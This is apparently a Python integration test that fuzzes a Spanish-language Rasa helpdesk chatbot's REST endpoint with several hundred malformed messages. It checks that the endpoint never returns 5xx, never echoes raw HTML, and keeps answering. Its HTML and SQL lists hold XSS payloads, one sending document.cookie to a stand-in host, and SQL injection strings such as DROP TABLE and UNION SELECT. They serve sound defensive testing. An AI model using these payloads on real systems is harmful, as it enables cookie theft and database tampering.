"""A few hundred bad messages through the REST channel: no 5xx, no raw HTML echoed, still answering;
markup in a problem description is stored without it.

What Rasa 3.6.21 does with each kind (measured by this test, fixed seed; the
per-category status codes are asserted in EXPECTED_STATUS below):

- empty message "", whitespace only, emoji only, control characters
  (NUL, ESC, DEL, BOM, RTL override, zero-width), 10,000 characters, HTML and
  script, SQL-looking text: 200 with an answer (the fallback "no le entendí"
  with the menu, a greeting, or an answer when words are recognised).
- invalid UTF-8 in the JSON body: Sanic parses it with ujson, which answers
  400 "Failed when parsing body as json" for most invalid sequences (FF, FE FF,
  C3 28, C0 AF, E2 28 A1, F0 28 8C BC) but reads stray continuation bytes
  (A0 A1, 80 80 80) as the characters U+00A0, U+0080... and goes on: 200.
- UTF-8-encoded surrogates (ED A0 80) and JSON escapes of lone surrogates
  ("\\ud800"): accepted, 200. As a conversation id such a string cannot be
  stored; with Rasa's own SQLTrackerStore the resulting UnicodeEncodeError
  stopped the whole Rasa server (it is a ValueError, which Rasa's session_scope
  takes for "PostgreSQL schema missing" and exits). addons/tracker_store.py
  fixes it: logged at ERROR, the conversation runs in memory, 200 with an answer
  (test_lone_surrogates_do_not_stop_the_server).
- odd sender: missing key or null -> the conversation id "default" (every such
  client shares one conversation: callers must always send a sender); number,
  boolean, list or object -> its str() ("123", "True", "{'a': 1}"); very long or
  unicode ids are kept as they are. All 200 with an answer.
- message that is not a string (null, number, list, object, missing key): 400
  with the reason (addons/rest_channel.py; Rasa's own RestInput gave 200 with no
  answer and an ERROR line carrying the message).
- a body that is valid JSON but not an object ([..], "..", 42, null, empty):
  400 (addons/rest_channel.py; Rasa's own RestInput gave 500), see test_security.py.
"""

from __future__ import annotations

import collections
import json
import random
import uuid

from tests.integration.harness import texts
from tools.published import MAIN_LINE

SEED = 20261205
FORBIDDEN = ("<script", "<img")

EMOJI = ["😀", "🙏", "🔥", "💥", "👍🏽", "👨‍👩‍👧", "🇨🇴", "❤️", "🤖", "📞", "✉️", "⏰", "🧾", "🫠"]
CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\u0085", "\u200b",
           "\u200e", "\u202e", "\u2028", "\ufeff", "\ufffd"]
WHITESPACE = [" ", "\t", "\n", "\r", "\u00a0", "\u2003", "\u3000"]
WORDS = ["firma", "digital", "token", "certificado", "soporte", "horario", "correo", "teléfono", "error",
         "estampado", "cronológico", "NIT", "urgente", "factura", "DIAN", "no", "funciona", "ayuda"]
HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(document.cookie)>",
    "<IMG SRC=\"javascript:alert('x')\">",
    "<svg/onload=alert(1)>",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<b>hola</b> ¿cuál es el teléfono?",
    "\"><script>fetch('//evil.example?c='+document.cookie)</script>",
    "<a href=\"javascript:alert(1)\">soporte</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
SQL = [
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "\" OR 1=1 --",
    "x'); DELETE FROM events WHERE ('1'='1",
    "UNION SELECT sender_id, data FROM events --",
    "admin'--",
    "1; UPDATE events SET data=NULL",
    "'; SELECT pg_sleep(10); --",
    "Robert'); DROP TABLE students;--",
    "%' AND 1=0 UNION ALL SELECT NULL --",
]
# Sanic parses the body with ujson, which refuses most invalid UTF-8 (400) but reads
# stray continuation bytes (A0 A1, 80 80 80) as the characters U+00A0, U+0080… (200).
INVALID_UTF8 = {b"\xff": 400, b"\xfe\xff": 400, b"\xc3\x28": 400, b"\xe2\x28\xa1": 400,
                b"\xf0\x28\x8c\xbc": 400, b"\xc0\xaf": 400, b"\xa0\xa1": 200, b"\x80\x80\x80": 200}
# UTF-8-encoded surrogates are invalid UTF-8 too, but ujson accepts them, as it accepts
# the escapes \ud800 in JSON text: Rasa gets a str it cannot encode (see test_lone_surrogates).
SURROGATES = [b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\\ud800", b"\\udfff", b"\\udbff"]

# category -> the status codes Rasa gives (all measured; none may be 5xx)
EXPECTED_STATUS = {
    "empty": {200}, "whitespace": {200}, "long_10000": {200}, "emoji": {200}, "control": {200},
    "invalid_utf8_refused": {400}, "invalid_utf8_read_as_latin1": {200}, "lone_surrogate": {200}, "html": {200}, "sql": {200}, "odd_sender": {200}, "odd_message": {400},
}
# categories whose every message must get at least one bot message
MUST_ANSWER = {"empty", "whitespace", "long_10000", "emoji", "control", "invalid_utf8_read_as_latin1",
               "lone_surrogate", "html", "sql", "odd_sender"}

Request = tuple[str, dict]  # (category, {"json": body} or {"data": raw bytes})


def generate(rng: random.Random) -> list[Request]:
    def sender() -> str:
        return f"it-bad-{rng.randrange(10**9):09d}"

    def text_with(pool: list[str], n: int) -> str:
        return "".join(rng.choice(pool) for _ in range(n))

    requests: list[Request] = []

    def add(category: str, body: dict) -> None:
        requests.append((category, {"json": body}))

    for _ in range(10):
        add("empty", {"sender": sender(), "message": ""})
    for _ in range(30):
        add("whitespace", {"sender": sender(), "message": text_with(WHITESPACE, rng.randint(1, 60))})
    for _ in range(8):
        words = " ".join(rng.choice(WORDS) for _ in range(2000))
        add("long_10000", {"sender": sender(), "message": (words + " " + "x" * 10_000)[:10_000]})
    for _ in range(30):
        add("emoji", {"sender": sender(), "message": text_with(EMOJI, rng.randint(1, 12))})
    for _ in range(12):
        bad = rng.choice(SURROGATES)
        if rng.random() < 0.5:
            raw = b'{"sender": "' + sender().encode() + b'", "message": "hola ' + bad + b' soporte"}'
        else:
            raw = b'{"sender": "it-bad-' + bad + b'", "message": "hola"}'
        requests.append(("lone_surrogate", {"data": raw}))
    for _ in range(30):
        pieces = [rng.choice(CONTROL) if rng.random() < 0.6 else rng.choice(WORDS) + " " for _ in range(12)]
        add("control", {"sender": sender(), "message": "".join(pieces)})
    for _ in range(25):
        bad = rng.choice(sorted(INVALID_UTF8))
        category = "invalid_utf8_refused" if INVALID_UTF8[bad] == 400 else "invalid_utf8_read_as_latin1"
        where = rng.choice(["message", "sender"])
        if where == "message":
            raw = b'{"sender": "' + sender().encode() + b'", "message": "hola ' + bad + b' soporte"}'
        else:
            raw = b'{"sender": "it-bad-' + bad + b'", "message": "hola"}'
        requests.append((category, {"data": raw}))
    for _ in range(40):
        payload = rng.choice(HTML)
        add("html", {"sender": sender(), "message": rng.choice(["", "hola ", "tengo un problema "]) + payload})
    for _ in range(40):
        add("sql", {"sender": sender(), "message": rng.choice(SQL)})
    odd_senders = [None, 0, 123, -1, 3.14, True, [], ["a"], {"a": 1}, "", " ", "x" * 300, "x" * 10_000,
                   "usuario-ñandú-😀", "\u202eevil", "a/b/../c", "it'; DROP TABLE events;--", "\x00", "<script>"]
    for value in odd_senders:
        add("odd_sender", {"sender": value, "message": "hola"})
    for _ in range(21):
        add("odd_sender", {"message": rng.choice(["hola", "¿cuál es el teléfono?", "gracias"])})  # no sender
    for value in [None, 0, 42, 3.5, True, [], ["hola"], {"text": "hola"}]:
        add("odd_message", {"sender": sender(), "message": value})
    for _ in range(7):
        add("odd_message", {"sender": sender()})  # no message
    rng.shuffle(requests)
    return requests


def _answer_strings(messages: list[dict]) -> list[str]:
    found = []
    for message in messages:
        found.append(message.get("text") or "")
        found += [b.get("title") or "" for b in message.get("buttons") or []]
        for key in ("image", "attachment", "custom"):
            if message.get(key) is not None:
                found.append(json.dumps(message[key], ensure_ascii=False))
    return found


def test_bad_messages_get_no_5xx_no_raw_html_and_the_assistant_keeps_answering(main):
    requests = generate(random.Random(SEED))
    assert len(requests) >= 250
    statuses: dict[str, collections.Counter] = collections.defaultdict(collections.Counter)
    problems: list[str] = []
    for category, request in requests:
        response = main.rasa.post(request.get("json"), data=request.get("data"))
        statuses[category][response.status_code] += 1
        shown = repr(request)[:120]
        if response.status_code >= 500:
            problems.append(f"{category}: {response.status_code} for {shown}")
            continue
        if response.status_code != 200:
            continue
        messages = response.json()
        if category in MUST_ANSWER and not messages:
            problems.append(f"{category}: no answer to {shown}")
        for string in _answer_strings(messages):
            if any(tag in string.lower() for tag in FORBIDDEN):
                problems.append(f"{category}: raw HTML echoed for {shown}: {string[:200]}")
    observed = {category: dict(counter) for category, counter in statuses.items()}
    print("status codes per category:", observed)
    assert not problems, "\n".join(problems[:40])
    for category, expected in EXPECTED_STATUS.items():
        assert set(statuses[category]) <= expected, f"{category}: {observed[category]} (expected {expected})"

    assert main.rasa.service.alive()
    assert MAIN_LINE in texts(main.rasa.say(f"it-after-bad-{uuid.uuid4().hex[:8]}", "¿cuál es el teléfono de soporte?"))


def _press(answer: list[dict], title: str) -> str:
    return next(b["payload"] for m in answer for b in m.get("buttons") or [] if b.get("title") == title)


def test_html_given_as_a_problem_description_is_stored_without_markup(main):
    """The description the customer types goes to the agent's packet and the morning list
    (slot ``problem_description``): through the real stack its angle brackets arrive as the
    look-alikes ‹ › (helpdesk/understanding.py ``clean_free_text``), and no answer shows it raw.
    Saturday 20:00 (the harness's clock): the after-hours triage asks for the description."""
    sender = f"it-html-{uuid.uuid4().hex[:8]}"
    answer = main.rasa.say(sender, "tengo un problema")
    answer = main.rasa.say(sender, _press(answer, "Firma digital"))
    answer = main.rasa.say(sender, _press(answer, "No"))
    assert "Descríbame el problema" in texts(answer), texts(answer)
    answer = main.rasa.say(sender, "no puedo firmar el documento <script>alert(1)</script> <img src=x onerror=alert(1)>")
    echoed = [s for s in _answer_strings(answer) if any(tag in s.lower() for tag in FORBIDDEN)]
    assert not echoed, f"raw HTML in the answer: {echoed}"
    stored = [e["value"] for e in main.rasa.tracker(sender)["events"]
              if e.get("event") == "slot" and e.get("name") == "problem_description" and e.get("value")]
    assert stored, "the description was never stored"
    assert all("<" not in v and ">" not in v for v in stored), stored
    assert stored[-1].startswith("no puedo firmar el documento ‹script›alert(1)‹/script› ‹img"), stored


def test_lone_surrogates_do_not_stop_the_server(main):
    """One request with an unencodable conversation id used to stop Rasa (see addons/tracker_store.py)."""
    bodies = [b'{"sender": "it-sur-\xed\xa0\x80", "message": "hola"}',
              b'{"sender": "it-sur-\\ud800", "message": "hola"}',
              b'{"sender": "it-sur-ok", "message": "hola \\udfff soporte"}']
    for body in bodies:
        response = main.rasa.post(data=body)
        assert response.status_code == 200, response.text[:300]
        assert response.json(), f"no answer to {body!r}"
        assert main.rasa.service.alive(), f"the Rasa server stopped after {body!r}:\n{main.rasa.log()[-2000:]}"
    assert "ERROR    addons.tracker_store  - Tracker store database error" in main.rasa.log()
    assert MAIN_LINE in texts(main.rasa.say(f"it-sur-{uuid.uuid4().hex[:8]}", "¿cuál es el teléfono de soporte?"))
